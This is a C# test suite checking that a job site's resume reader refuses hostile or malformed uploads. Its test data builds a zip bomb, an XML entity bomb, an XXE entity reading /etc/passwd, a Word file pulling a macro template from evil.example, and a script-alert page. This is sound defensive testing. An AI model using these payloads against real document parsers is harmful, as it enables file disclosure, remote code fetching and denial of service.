using System.IO.Compression;
using System.Text;
using CsCheck;
using JobSite.Core.Resumes;

namespace JobSite.Tests.Resumes;

/// <summary>Files that mean harm, or that something broke, end in a sentence and in nothing else.</summary>
public class HostileResumesTests
{
    const string Types = """<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>""";
    const string Relations = """<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>""";
    const string Space = "xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"";

    public static TheoryData<string> Names => [.. Files.Keys];

    static readonly Dictionary<string, Func<byte[]>> Files = new()
    {
        ["nothing"] = () => [],
        ["larger than allowed"] = () => new byte[ResumeLimits.Bytes + 1],
        ["zip bomb"] = () => Word($"<w:document {Space}><w:body><w:p><w:r><w:t>{new string('a', 150_000_000)}</w:t></w:r></w:p></w:body></w:document>"),
        ["xml bomb"] = () => Word($"<!DOCTYPE d [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;\">]><w:document {Space}><w:body><w:p><w:r><w:t>&b;</w:t></w:r></w:p></w:body></w:document>"),
        ["file from outside"] = () => Word($"<!DOCTYPE d [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><w:document {Space}><w:body><w:p><w:r><w:t>&x;</w:t></w:r></w:p></w:body></w:document>"),
        ["template from outside"] = () => Word($"<w:document {Space}><w:body/></w:document>", Relations.Replace("</Relationships>", "<Relationship Id=\"r2\" TargetMode=\"External\" Type=\"x/attachedTemplate\" Target=\"http://evil.example/t.dotm\"/></Relationships>", StringComparison.Ordinal)),
        ["zip of something else"] = () => Zip(("a.txt", "Jane Doe")),
        ["deep json"] = () => Encoding.UTF8.GetBytes(string.Concat(Enumerable.Repeat("{\"a\":", 100_000))),
        ["broken json"] = () => "{\"basics\":{\"name\":"u8.ToArray(),
        ["deep pdf"] = () => Encoding.Latin1.GetBytes($"%PDF-1.7\n1 0 obj\n{new string('[', 200_000)}\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF"),
        ["pdf that refers to itself"] = () => "%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [2 0 R] /Count 1 >>\nendobj\ntrailer << /Root 1 0 R >>\nstartxref\n9\n%%EOF"u8.ToArray(),
        ["pdf without its second half"] = () => [.. MadeResumes.Of("two-columns.pdf").AsSpan(0, 600)],
        ["pdf of too many pages"] = () => MadeFile.Pdf([.. Enumerable.Repeat("Jane", ResumeLimits.Pages + 1)]),
        ["pdf without text"] = () => MadeFile.Pdf(""),
        ["program"] = () => [0x7F, 0x45, 0x4C, 0x46, 2, 1, 1],
        ["picture"] = () => [0x89, 0x50, 0x4E, 0x47, 13, 10, 26, 10],
        ["web page"] = () => "<!doctype html><script>alert(1)</script>"u8.ToArray(),
        ["old word"] = () => [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1],
        ["control characters"] = () => [.. Enumerable.Range(0, 4000).Select(i => (byte)(i % 7))],
    };

    [Theory]
    [MemberData(nameof(Names))]
    public void End_in_a_sentence(string name)
    {
        var answer = Read(Files[name](), "resume");

        Assert.Null(answer.Reading);
        Assert.EndsWith(".", answer.Refusal?.Sentence, StringComparison.Ordinal);
    }

    [Fact]
    public void Text_does_not_pass_for_a_pdf() =>
        Assert.NotNull(Read("Jane Doe\nBaker"u8.ToArray(), "resume.pdf").Refusal);

    [Fact]
    public void Random_bytes_end_in_an_answer() =>
        Gen.Byte.Array[0, 400].Sample(bytes => IsAnswer(Read(bytes, "resume")), iter: 300);

    [Fact]
    public void Broken_files_end_in_an_answer() =>
        Gen.Select(Gen.Int[0, MadeResumes.Each.Count - 1].Select(at => MadeResumes.Each[at]), Gen.Select(Gen.Int[0, 1_000_000], Gen.Byte).Array[1, 12], Gen.Int[0, 3]).Sample(
            (file, hits, cut) => IsAnswer(Read(Broken(file, hits, cut), "resume")), iter: 200, threads: 1);

    static bool IsAnswer(ResumeAnswer answer) => answer.Reading is null != answer.Refusal is null;

    static byte[] Broken(byte[] file, (int At, byte Value)[] hits, int cut)
    {
        var broken = file.ToArray();
        foreach (var (at, value) in hits)
            broken[at % broken.Length] = value;

        return cut == 0 ? broken[..(broken.Length / 2)] : broken;
    }

    static ResumeAnswer Read(byte[] file, string name) => ResumeReader.Read(file, name, new(2026, 11, 27), TestContext.Current.CancellationToken);

    static byte[] Word(string document, string relations = Relations) => Zip(("[Content_Types].xml", Types), ("_rels/.rels", relations), ("word/document.xml", document));

    static byte[] Zip(params (string Name, string Text)[] parts)
    {
        using var stream = new MemoryStream();
        using (var zip = new ZipArchive(stream, ZipArchiveMode.Create))
            foreach (var (name, text) in parts)
            {
                using var part = zip.CreateEntry(name).Open();
                part.Write(Encoding.UTF8.GetBytes(text));
            }

        return stream.ToArray();
    }
}
